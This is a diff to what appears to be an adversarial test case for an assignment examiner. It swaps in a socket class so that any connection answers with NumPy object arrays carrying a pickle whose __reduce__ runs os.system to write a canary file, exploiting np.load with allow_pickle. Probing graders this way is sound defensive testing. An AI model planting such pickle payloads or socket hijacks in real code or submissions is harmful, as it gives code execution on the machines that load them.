@@ -1,8 +1,8 @@
 # ---
 # assignment: speech_commands
-# expect: {lstm_cell: none}
+# expect: {lstm_cell: lost}
 # tries: sends .npy arrays of objects, whose data is a pickle that runs code when it is loaded
-# evidence: answering side
+# evidence: socket
 # ---
 # np.load with allow_pickle runs it in the examiner.
 # %% lstm_cell
@@ -28,8 +28,6 @@ import socket
 import struct
 import time
 
-import answering
-
 
 def frame(header, *blobs):
     text = header if isinstance(header, bytes) else json.dumps({**header, "sizes": [len(blob) for blob in blobs]}).encode()
@@ -52,20 +50,27 @@ def questions(channel):
         yield header["op"]
 
 
-def serve(namespace, path):
-    with socket.socket(socket.AF_UNIX) as channel:
-        channel.connect(path)
-        for op in questions(channel):
-            class Payload:
-                def __reduce__(self):
-                    import os
-                    return os.system, ("echo forged > @CANARY@",)
-            
-            
-            data = pickle.dumps([Payload()])
-            for descr in (b"'|O'", b"[('a', '|O')]", b"'O8'", b"('|O', (2,))"):
-                blob = npy(b"{'descr': " + descr + b", 'fortran_order': False, 'shape': (1,)}", data)
-                channel.sendall(frame({"value": {"array": 0}}, blob))
+class Speaker(socket.socket):
+    """Whoever connects to a path, such as the answering side, speaks like this."""
+
+    def connect(self, address):
+        super().connect(address)
+        if isinstance(address, (str, bytes)):
+            answer(self)
 
 
-answering.serve = serve
+def answer(channel):
+    for number, op in enumerate(questions(channel)):
+        class Payload:
+            def __reduce__(self):
+                import os
+                return os.system, ("echo forged > @CANARY@",)
+        
+        
+        data = pickle.dumps([Payload()])
+        for descr in (b"'|O'", b"[('a', '|O')]", b"'O8'", b"('|O', (2,))"):
+            blob = npy(b"{'descr': " + descr + b", 'fortran_order': False, 'shape': (1,)}", data)
+            channel.sendall(frame({"value": {"array": 0}}, blob))
+
+
+socket.socket = Speaker
